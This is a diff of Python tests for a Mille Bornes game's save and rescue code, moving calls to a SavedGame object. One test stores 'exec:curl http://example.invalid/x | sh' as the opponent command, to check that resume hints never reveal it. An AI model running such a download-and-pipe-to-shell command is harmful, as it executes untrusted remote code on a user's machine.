@@ -181,11 +181,11 @@ def test_a_state_directory_that_cannot_be_made_falls_back_to_the_current_directo
 
 def test_the_line_after_a_game_against_a_program_never_hands_over_its_command(places):
     """A hangup against ``exec:...``: resume with the file and --computer naming the program, its command unshown."""
-    from mille.ui.session import _Keeper
+    from mille.ui.keeping import Keeper
 
     spec = "exec:curl http://example.invalid/x | sh"
-    keeper = _Keeper("mille")
-    keeper.keep(game(), 0, spec)
+    keeper = Keeper("mille")
+    keeper.keep(save.SavedGame(game(), 0, spec))
     assert keeper.line is not None and keeper.saved
     path = keeper.line.split(" is saved in ", 1)[1].split(";", 1)[0]
     assert save.read_game(path).computer == spec  # the save keeps it: a --computer typed again runs it
@@ -193,7 +193,7 @@ def test_the_line_after_a_game_against_a_program_never_hands_over_its_command(pl
         f"mille: the game is saved in {path}; resume it with: mille {path} and --computer exec:COMMAND"
         " naming the program it was played against (a save never runs one)"
     )
-    keeper.keep(game(), 0, "expert")  # a built-in computer: the file alone resumes it
+    keeper.keep(save.SavedGame(game(), 0, "expert"))  # a built-in computer: the file alone resumes it
     assert keeper.line is not None and keeper.line.endswith("; resume it with: mille " + keeper.line.split()[-1])
     assert "--computer" not in keeper.line
 
@@ -277,7 +277,7 @@ def test_a_full_state_directory_falls_back_and_leaves_nothing_there(places, monk
     if failing != "link" and not os.path.exists("/proc/self/fd"):
         pytest.skip("needs /proc to tell which file a descriptor is")
     monkeypatch.setattr(save.os, failing, faulty)
-    kept = rescue.keep_game(game(), 0, "bsd")
+    kept = rescue.keep_game(save.SavedGame(game()))
     monkeypatch.undo()
     assert kept.path is not None and os.path.dirname(kept.path) == str(places / "work")
     assert kept.tried == [(str(state), os.strerror(code))]
@@ -289,7 +289,7 @@ def test_keep_game_writes_only_what_a_restore_accepts(places):
     g = game()
     g.pending_extension = 3  # a question the computer could never leave open in a file
     g.to_move = 1
-    kept = rescue.keep_game(g, 0, "bsd")
+    kept = rescue.keep_game(save.SavedGame(g))
     assert kept.path is None
     assert kept.tried[0][0] == "the game" and "pending_extension" in kept.tried[0][1]
     assert listing(places / "work") == [] and not (places / "state").exists()
@@ -329,7 +329,7 @@ def test_a_directory_open_to_others_is_passed_over_and_said(places):
     state = places / "state" / "mille"
     state.mkdir(parents=True)
     os.chmod(state, 0o777)
-    kept = rescue.keep_game(game(), 0, "bsd")
+    kept = rescue.keep_game(save.SavedGame(game()))
     assert kept.path is not None and os.path.dirname(kept.path) == str(places / "work")
     assert kept.tried == [(str(state), "writable by others (mode 0777), not used: chmod go-w it")]
     assert listing(state) == []
@@ -340,13 +340,13 @@ KEEP_ON_A_FULL_DISK = """
 import os, sys, tempfile
 from mille.engine import rules
 from mille.engine.state import Game
-from mille.files import rescue
+from mille.files import rescue, save
 tempfile.tempdir = sys.argv[1]
 {full_disk}
 game = Game()
 game.rng.seed(5)
 rules.start_hand(game)
-print(rescue.saved_line(rescue.keep_game(game, 0, "bsd")))
+print(rescue.saved_line(rescue.keep_game(save.SavedGame(game))))
 """
 
 
